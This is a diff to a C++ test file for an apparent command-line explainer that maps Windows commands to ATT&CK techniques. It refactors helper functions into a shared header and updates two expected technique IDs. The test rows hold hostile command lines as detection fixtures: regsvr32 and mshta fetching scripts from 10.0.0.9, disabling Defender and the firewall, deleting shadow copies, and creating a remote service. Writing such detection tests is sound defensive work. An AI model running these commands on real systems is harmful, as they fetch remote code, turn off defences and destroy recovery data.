@@ -6,71 +6,18 @@
 
 #include <filesystem>
 
-#include "core/explain/command_explainer.h"
 #include "core/explain/explanation_json.h"
-#include "core/kb/knowledge_base.h"
-#include "tests_support/test_paths.h"
+#include "explain_test_support.h"
 
 using namespace hitome::core;
+using hitome::test::builtinKb;
+using hitome::test::explain;
+using hitome::test::findingOf;
+using hitome::test::hasTechnique;
+using hitome::test::param;
+using hitome::test::utf16Base64;
 
 namespace {
-
-const KnowledgeBase& builtinKb() {
-    static const KnowledgeBase kb = [] {
-        std::vector<KbDocument> docs;
-        const auto dir = hitome::test::resourcesDir() / "knowledge";
-        if (std::filesystem::exists(dir))
-            for (const auto& f : std::filesystem::directory_iterator(dir))
-                if (f.path().extension() == ".json")
-                    docs.emplace_back(f.path().filename().string(), hitome::test::readFile(f.path()));
-        std::vector<Error> problems;
-        return KnowledgeBase::fromDocumentsLenient(docs, problems);
-    }();
-    return kb;
-}
-
-Explanation explain(const std::string& line) { return CommandExplainer(&builtinKb()).explain(line); }
-
-const Finding* findingOf(const Explanation& ex, const std::string& code) {
-    for (const auto& f : ex.findings)
-        if (f.code == code) return &f;
-    for (const auto& n : ex.nested)
-        if (const Finding* f = findingOf(n, code)) return f;
-    return nullptr;
-}
-
-std::string param(const Finding* f, const std::string& key) {
-    if (!f) return "<no finding>";
-    for (const auto& [k, v] : f->params)
-        if (k == key) return v;
-    return "<no param>";
-}
-
-bool hasTechnique(const Explanation& ex, const std::string& id) {
-    const auto all = ex.allTechniques();
-    return std::find(all.begin(), all.end(), id) != all.end();
-}
-
-std::string utf16Base64(const std::string& ascii) {
-    std::string bytes;
-    for (char c : ascii) bytes += std::string{c, '\0'};
-    static const char* k = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
-    std::string out;
-    size_t i = 0;
-    for (; i + 2 < bytes.size(); i += 3) {
-        const unsigned v = (static_cast<unsigned char>(bytes[i]) << 16) | (static_cast<unsigned char>(bytes[i + 1]) << 8) |
-                           static_cast<unsigned char>(bytes[i + 2]);
-        for (int s = 18; s >= 0; s -= 6) out += k[(v >> s) & 63];
-    }
-    if (bytes.size() - i == 2) {
-        const unsigned v = (static_cast<unsigned char>(bytes[i]) << 16) | (static_cast<unsigned char>(bytes[i + 1]) << 8);
-        out += std::string{k[(v >> 18) & 63], k[(v >> 12) & 63], k[(v >> 6) & 63], '='};
-    } else if (bytes.size() - i == 1) {
-        const unsigned v = static_cast<unsigned char>(bytes[i]) << 16;
-        out += std::string{k[(v >> 18) & 63], k[(v >> 12) & 63], '=', '='};
-    }
-    return out;
-}
 
 #define REQUIRE_KB() \
     if (builtinKb().size() < 10) QSKIP("resources/knowledge is not populated yet")
@@ -234,7 +181,7 @@ private slots:
         QTest::newRow("netsh portproxy") << "netsh  interface portproxy add v4tov4 listenaddress=0.0.0.0 listenport=48333 connectaddress=127.0.0.1 connectport=80"
                                          << "netsh.portproxy" << "T1090";
         // TA0005-Defense Evasion/T1562.001-Impair Defenses-Disable or Modify tool/ID4688-Defender service deactivation attempt.evtx
-        QTest::newRow("sc disable sense") << "sc  config sense start= disabled" << "sc.stop_security" << "T1562.001";
+        QTest::newRow("sc disable sense") << "sc  config sense start= disabled" << "sc.stop_security" << "T1685";
         // TA0040-Impact/T1490-Inhibit System Recovery/ID4688-Delete VSS backup (WMI).evtx
         QTest::newRow("wmic shadowcopy") << "wmic  shadowcopy delete /nointeractive" << "wmic.shadow_delete" << "T1490";
         // TA0006-Credential Access/T1003-Credential dumping/ID1-LSASS dump with LSASSY (SYSMON).evtx
@@ -246,7 +193,7 @@ private slots:
         QTest::newRow("sc create") << "sc \\\\10.0.0.7 create evilsvc binPath= \"C:\\Windows\\Temp\\svc.exe\" start= auto" << "sc.create" << "T1543.003";
         QTest::newRow("regsvr32 squiblydoo") << "regsvr32 /s /n /u /i:http://10.0.0.9/a.sct scrobj.dll" << "regsvr32.squiblydoo" << "T1218.010";
         QTest::newRow("mshta url") << "mshta http://10.0.0.9/a.hta" << "lolbin.remote_script" << "T1218.005";
-        QTest::newRow("netsh firewall off") << "netsh advfirewall set allprofiles state off" << "netsh.firewall_off" << "T1562.004";
+        QTest::newRow("netsh firewall off") << "netsh advfirewall set allprofiles state off" << "netsh.firewall_off" << "T1686.003";
         QTest::newRow("vssadmin") << "vssadmin delete shadows /all /quiet" << "vss.delete" << "T1490";
         QTest::newRow("cmd chain") << "cmd.exe /c whoami & net user /domain" << "cmd.chain" << "T1087.002";
     }
